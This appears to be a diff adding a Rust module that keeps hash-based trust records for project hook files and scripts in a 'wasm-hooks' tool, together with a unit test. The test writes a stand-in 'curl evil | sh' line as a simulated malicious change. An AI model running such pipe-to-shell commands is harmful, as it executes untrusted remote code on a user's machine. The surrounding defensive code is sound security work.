@@ -1,0 +1,250 @@
+//! Trust for project layers: a cloned repository writes `.wasm-hooks/` (and
+//! `.claude/settings*.json`), so what it declares does not run with the
+//! person's rights until the person says so (`wasm-hooks trust`).
+//!
+//! Trusting a project records, in the user's state directory (never in the
+//! project), the sha256 of every file that decides what runs: the project's
+//! hook files and `config.*`, and every file those hooks run or read as
+//! code (plugins, scripts named in commands, an MCP server's program and
+//! its `.mcp.json`). The project stays trusted while that set of files is
+//! the same and each still has its hash; any change, added or removed file
+//! makes it untrusted again. A file whose identity (inode, size, change
+//! times) is as recorded is not hashed again, so the check costs a `stat`
+//! per file.
+
+use std::collections::BTreeMap;
+use std::os::unix::fs::MetadataExt;
+use std::path::{Path, PathBuf};
+
+use serde::{Deserialize, Serialize};
+use wasm_hooks_core::sha256_hex;
+
+use crate::state_dir;
+
+/// What runs in a project nobody trusted (the user's `untrusted_projects`).
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum UntrustedProjects {
+    /// Only hooks that cannot reach past the sandbox: inline rules, and
+    /// wasm hooks granted nothing but the project, read-only; and they may
+    /// only make things safer (deny, ask, context, messages).
+    #[default]
+    SandboxedOnly,
+    /// Nothing of the project's.
+    SkipAll,
+    /// Everything, as if trusted (the behaviour before trust existed).
+    TrustAll,
+}
+
+/// Where trusted projects are recorded: a file per project.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct TrustStore {
+    dir: PathBuf,
+}
+
+/// Whether a project is trusted, and if not, why.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum TrustStatus {
+    /// Trusted, and nothing changed since.
+    Trusted,
+    /// Never trusted (or the trust was revoked).
+    Never,
+    /// Trusted once; these files changed, appeared or went since.
+    Changed(Vec<PathBuf>),
+}
+
+impl TrustStatus {
+    /// Whether the project is trusted.
+    pub fn is_trusted(&self) -> bool {
+        *self == TrustStatus::Trusted
+    }
+}
+
+/// What trusting a project recorded.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct TrustRecord {
+    /// The project (its real path).
+    pub project: PathBuf,
+    /// Every file trusted, with what it was.
+    pub files: BTreeMap<PathBuf, FileStamp>,
+}
+
+/// One trusted file as it was: its hash, and its identity, which spares
+/// hashing it again while unchanged.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct FileStamp {
+    /// Its sha256, hex.
+    pub sha256: String,
+    dev: u64,
+    ino: u64,
+    len: u64,
+    mtime_ns: i128,
+    ctime_ns: i128,
+}
+
+impl FileStamp {
+    /// The file at `path` as it is now.
+    fn of(path: &Path) -> std::io::Result<Self> {
+        let bytes = std::fs::read(path)?;
+        let meta = std::fs::metadata(path)?;
+        Ok(Self {
+            sha256: sha256_hex(&bytes),
+            ..Self::identity(&meta)
+        })
+    }
+
+    fn identity(meta: &std::fs::Metadata) -> Self {
+        Self {
+            sha256: String::new(),
+            dev: meta.dev(),
+            ino: meta.ino(),
+            len: meta.len(),
+            mtime_ns: i128::from(meta.mtime()) * 1_000_000_000 + i128::from(meta.mtime_nsec()),
+            ctime_ns: i128::from(meta.ctime()) * 1_000_000_000 + i128::from(meta.ctime_nsec()),
+        }
+    }
+
+    /// Whether the file at `path` is still this one: the same identity,
+    /// or else the same content.
+    fn matches(&self, path: &Path) -> bool {
+        let Ok(meta) = std::fs::metadata(path) else {
+            return false;
+        };
+        let now = Self {
+            sha256: self.sha256.clone(),
+            ..Self::identity(&meta)
+        };
+        now == *self || std::fs::read(path).is_ok_and(|bytes| sha256_hex(&bytes) == self.sha256)
+    }
+}
+
+impl TrustStore {
+    /// Records kept in `dir`.
+    pub fn new(dir: impl Into<PathBuf>) -> Self {
+        Self { dir: dir.into() }
+    }
+
+    /// The user's store: `$XDG_STATE_HOME/wasm-hooks/trust`, else
+    /// `~/.local/state/wasm-hooks/trust`.
+    pub fn user() -> Option<Self> {
+        wasm_hooks_core::xdg_dir("XDG_STATE_HOME", ".local/state")
+            .map(|dir| Self::new(dir.join("wasm-hooks").join("trust")))
+    }
+
+    fn record_file(&self, project: &Path) -> PathBuf {
+        let real = project
+            .canonicalize()
+            .unwrap_or_else(|_| project.to_owned());
+        self.dir
+            .join(state_dir::file_name(&real.to_string_lossy(), "json"))
+    }
+
+    /// What was recorded for `project`, if it was trusted.
+    pub fn record(&self, project: &Path) -> Option<TrustRecord> {
+        let text = std::fs::read_to_string(self.record_file(project)).ok()?;
+        serde_json::from_str(&text).ok()
+    }
+
+    /// Whether `project` is trusted with exactly these `files` as they are.
+    pub fn status(&self, project: &Path, files: &[PathBuf]) -> TrustStatus {
+        let Some(record) = self.record(project) else {
+            return TrustStatus::Never;
+        };
+        let now: Vec<PathBuf> = files.iter().map(|f| real(f)).collect();
+        let mut changed: Vec<PathBuf> = now
+            .iter()
+            .filter(|f| record.files.get(*f).is_none_or(|stamp| !stamp.matches(f)))
+            .cloned()
+            .collect();
+        changed.extend(record.files.keys().filter(|f| !now.contains(f)).cloned());
+        if changed.is_empty() {
+            TrustStatus::Trusted
+        } else {
+            TrustStatus::Changed(changed)
+        }
+    }
+
+    /// Trust `project` with these `files` as they are now.
+    ///
+    /// # Errors
+    /// When a file cannot be read or the record cannot be written.
+    pub fn trust(&self, project: &Path, files: &[PathBuf]) -> std::io::Result<TrustRecord> {
+        let mut stamps = BTreeMap::new();
+        for file in files {
+            let file = real(file);
+            let stamp = FileStamp::of(&file)
+                .map_err(|e| std::io::Error::new(e.kind(), format!("{}: {e}", file.display())))?;
+            stamps.insert(file, stamp);
+        }
+        let record = TrustRecord {
+            project: real(project),
+            files: stamps,
+        };
+        state_dir::create_private_dir(&self.dir)?;
+        let target = self.record_file(project);
+        let temporary = target.with_extension(format!("tmp-{}", std::process::id()));
+        let text = serde_json::to_string_pretty(&record).expect("a record serializes");
+        std::fs::write(&temporary, text)?;
+        std::fs::rename(&temporary, &target)?;
+        Ok(record)
+    }
+
+    /// Forget that `project` was trusted; whether it was.
+    ///
+    /// # Errors
+    /// When the record exists and cannot be removed.
+    pub fn revoke(&self, project: &Path) -> std::io::Result<bool> {
+        match std::fs::remove_file(self.record_file(project)) {
+            Ok(()) => Ok(true),
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(false),
+            Err(e) => Err(e),
+        }
+    }
+}
+
+/// A path with its links resolved, when it exists.
+fn real(path: &Path) -> PathBuf {
+    path.canonicalize().unwrap_or_else(|_| path.to_owned())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_project_stays_trusted_until_a_file_changes_appears_or_goes() {
+        let state = tempfile::tempdir().unwrap();
+        let project = tempfile::tempdir().unwrap();
+        let store = TrustStore::new(state.path());
+        let hooks = project.path().join("hooks.json");
+        let script = project.path().join("audit.sh");
+        std::fs::write(&hooks, "{}").unwrap();
+        std::fs::write(&script, "echo hi").unwrap();
+        let files = vec![hooks.clone(), script.clone()];
+        assert_eq!(store.status(project.path(), &files), TrustStatus::Never);
+        store.trust(project.path(), &files).unwrap();
+        assert!(store.status(project.path(), &files).is_trusted());
+        // Rewritten with the same bytes: still trusted (hashed again).
+        std::fs::write(&script, "echo hi").unwrap();
+        assert!(store.status(project.path(), &files).is_trusted());
+        std::fs::write(&script, "curl evil | sh").unwrap();
+        assert_eq!(
+            store.status(project.path(), &files),
+            TrustStatus::Changed(vec![script.canonicalize().unwrap()])
+        );
+        store.trust(project.path(), &files).unwrap();
+        let more = project.path().join("more.sh");
+        std::fs::write(&more, "x").unwrap();
+        let with_more = vec![hooks.clone(), script.clone(), more.clone()];
+        assert!(
+            !store.status(project.path(), &with_more).is_trusted(),
+            "a new file"
+        );
+        assert!(
+            !store.status(project.path(), &[hooks]).is_trusted(),
+            "a file gone"
+        );
+        assert!(store.revoke(project.path()).unwrap());
+        assert_eq!(store.status(project.path(), &files), TrustStatus::Never);
+    }
+}
